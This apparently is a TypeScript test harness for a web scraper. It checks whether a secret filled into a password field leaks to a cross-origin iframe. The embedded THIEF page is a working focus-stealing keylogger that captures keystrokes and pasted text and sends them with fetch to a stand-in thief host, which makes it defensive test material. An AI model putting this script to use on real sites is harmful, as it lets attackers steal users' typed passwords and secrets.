import { type Action, purposeOf } from '@gleaner/contracts';
import { createSecretBox } from '@gleaner/service-kit';
import { type Origin, startOrigin } from '@gleaner/test-kit';
import { logging } from './acting.ts';
import { startTestScraper, type TestScraper } from './start-test-scraper.ts';

const SECRETS_KEY = 'k'.repeat(40);
export const FOUGHT_FOR = 'correct-horse-9';

/** A frame of another origin that takes the focus all the time, and reports all text and keys that it gets. */
const THIEF = `<input id=i><div id=d contenteditable></div><script>
  const tell = (text) => fetch('/got?' + encodeURIComponent(text));
  const fields = [i, d];
  let turn = 0;
  const take = () => { window.focus(); fields[turn++ % 2].focus(); };
  for (const name of ['keydown', 'beforeinput', 'input', 'paste', 'compositionend'])
    addEventListener(name, ({ key, data }) => tell(name + ' ' + (key ?? data)), true);
  setInterval(take, 0);
  const loop = () => { take(); requestAnimationFrame(loop); };
  loop();
  const again = () => { take(); port.postMessage(0); };
  const { port1, port2: port } = new MessageChannel();
  port1.onmessage = again;
  again();
</script>`;

/** A scraper, a page with a form that helps a thief to the focus, and the site of the thief. */
export interface FocusFight extends AsyncDisposable {
  /** Fills the form some times, and returns the numbers of times that it had the secret, and another text. */
  fight(times: number): Promise<{ readonly right: number; readonly wrong: number }>;
  /** Returns what the thief got. */
  stolen(): readonly string[];
}

/** Starts a scraper whose page loses the focus to a frame of another origin, whatever has it. */
export async function startFocusFight(settings: Readonly<Record<string, string>>): Promise<FocusFight> {
  const thief = await startOrigin({
    host: '127.0.0.2',
    routes: [
      {
        path: '/thief',
        behavior: ({ response }) => {
          response.writeHead(200, { 'content-type': 'text/html' });
          response.end(THIEF);
        },
      },
    ],
  });
  const scraper = await startTestScraper({
    EGRESS_ALLOW: '127.0.0.1,127.0.0.2',
    SECRETS_KEY,
    ...settings,
  });
  return {
    fight: (times) => fight(scraper, thief, times),
    stolen: () => thief.requests.flatMap(({ url }) => (url.startsWith('/got') ? [url] : [])),
    async [Symbol.asyncDispose]() {
      await scraper[Symbol.asyncDispose]();
      await thief.close();
    },
  };
}

async function fight(scraper: TestScraper, thief: Origin, times: number) {
  const form = logging(
    `<input id=p type=password autocomplete=off><iframe src="${thief.url}/thief"></iframe><p id=right>0</p><p id=wrong>0</p>`,
    `const counts = { right: 0, wrong: 0 };
    $('#p').oninput = () => {
      const { value } = $('#p');
      const name = value === '${FOUGHT_FOR}' ? 'right' : 'wrong';
      $('#' + name).textContent = String(++counts[name]);
    };
    $('#p').onfocus = () => frames[0].focus();
    setInterval(() => { $('iframe').focus(); frames[0].focus(); }, 0);`,
  );
  const named = { name: 'shop' };
  const sealed = createSecretBox(SECRETS_KEY)?.seal(purposeOf('acc_test', named), FOUGHT_FOR) ?? '';
  const fill: Action = { fill: '#p', value: { secret: 'shop' }, optional: true };
  const reply = await scraper.scrape(
    { url: form, actions: [{ repeat: [fill], times }], selectors: { right: '#right', wrong: '#wrong' } },
    { secrets: [{ ...named, sealed }], timeoutMs: 30_000 + times * 10_000 },
  );
  if (!reply.ok) throw new Error(`${reply.failure.code}: ${reply.failure.message}`);
  const { right, wrong } = JSON.parse(reply.result.dataJson ?? '');
  return { right: Number(right), wrong: Number(wrong) };
}
